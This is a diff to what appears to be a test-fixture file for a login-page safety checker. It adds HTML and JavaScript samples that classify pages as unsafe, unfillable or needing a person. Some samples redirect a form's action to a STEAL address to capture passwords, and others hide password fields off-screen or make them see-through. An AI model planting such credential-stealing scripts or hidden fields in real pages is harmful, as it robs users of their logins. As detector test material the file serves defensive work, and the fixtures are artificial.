@@ -52,6 +52,10 @@ UNSAFE = {
         f"password.oninput = () => setTimeout(() => form.action = '{STEAL}', 20)"
     ),
     "swapped as it is pressed": scripted(f"button.onclick = () => form.action = '{STEAL}'"),
+    "sent by the page as it is pressed": scripted(
+        "button.onclick = event => { event.preventDefault();"
+        f"form.action = '{STEAL}'; form.submit() }}"
+    ),
     "swapped as it is sent": scripted(f"form.onsubmit = () => {{ form.action = '{STEAL}' }}"),
     "into an address": form(BOTH + SIGN_IN, more="method=get"),
     "into an address by the button": form(BOTH + "<button formmethod=get>Sign in</button>"),
@@ -83,6 +87,9 @@ NOT_TAKEN = {
     ),
     "shown as it is reached": scripted("password.onfocus = () => password.type = 'text'"),
     "shown as it is given": scripted("password.oninput = () => password.type = 'text'"),
+    "a password by name only": form(
+        EMAIL_FIELD + "<label>Password <input name=password></label>" + SIGN_IN
+    ),
     "never to be pressed": form(BOTH + "<button disabled>Sign in</button>"),
     "never kept": scripted("setInterval(() => password.value = '', 10)"),
 }
@@ -91,15 +98,18 @@ NOT_TAKEN = {
 HIDING = {
     "not drawn": "display:none",
     "not visible": "visibility:hidden",
+    "beside the page": "position:absolute;left:-5000px",
+    "above the page": "position:absolute;top:-5000px",
+}
+VEILING = {
+    "in a place without a size": "position:absolute;width:1px;height:1px;overflow:hidden",
     "see-through": "opacity:0",
     "nearly see-through": "opacity:.05",
     "filtered away": "filter:opacity(2%)",
-    "beside the page": "position:absolute;left:-5000px",
-    "above the page": "position:absolute;top:-5000px",
     "cut away": "clip-path:inset(50%)",
-    "without a size": "position:absolute;width:1px;height:1px;overflow:hidden",
     "below another": "position:absolute;top:0;left:0;z-index:-1",
 }
+BELOW = "<div style='height:3000px'></div>"
 HIDDEN = {
     **{name: f"<div style='{style}'>{PASSWORD_FIELD}</div>" for name, style in HIDING.items()},
     "too small to be seen": "<input type=password style='width:2px;height:2px;padding:0;border:0'>",
@@ -107,9 +117,14 @@ HIDDEN = {
     "hidden from readers": f"<div aria-hidden=true>{PASSWORD_FIELD}</div>",
     "in a set that is off": f"<fieldset disabled>{PASSWORD_FIELD}</fieldset>",
     "not to be written in": "<input type=password readonly>",
-    "a password by name only": "<label>Password <input name=password></label>",
 }
 """A password's field that nobody sees, beside an e-mail's that everybody does."""
+
+VEILED = {
+    name: form(f"{EMAIL_FIELD}<div style='{style}'>{PASSWORD_FIELD}</div>{SIGN_IN}")
+    for name, style in VEILING.items()
+}
+"""One that has its place on the page, and still nobody sees it."""
 
 
 def beside(hidden: str) -> str:
@@ -122,6 +137,7 @@ BLOB = f"""<script>const made = new Blob([`{CLASSIC}`], {{type: 'text/html'}});
 location = URL.createObjectURL(made)</script>"""
 FRAME = "<iframe style='width:400px;height:300px'"
 SEEN = {
+    **{name: (page, PageState.PERSON_WANTED) for name, page in VEILED.items()},
     "another's frame": (f"<p>x</p>{FRAME} src='{THERE}/'></iframe>", PageState.UNKNOWN),
     "a frame of its own": (f"<p>x</p>{FRAME} src='/inner'></iframe>", PageState.UNKNOWN),
     "a document in an attribute": (
@@ -181,6 +197,12 @@ SEEN = {
         "<h1>New terms of use</h1><p>x</p><button>Accept</button>",
         PageState.PERSON_WANTED,
     ),
+    "terms with a box": (
+        "<h1>Terms of use</h1>"
+        + form("<label><input type=checkbox> I accept</label><button>Continue</button>"),
+        PageState.PERSON_WANTED,
+    ),
+    "a code on demand": (form("<button>Send the code</button>"), PageState.PERSON_WANTED),
     "a human check": (
         form(BOTH + "<div data-sitekey=x style='height:70px'>x</div>" + SIGN_IN),
         PageState.PERSON_WANTED,
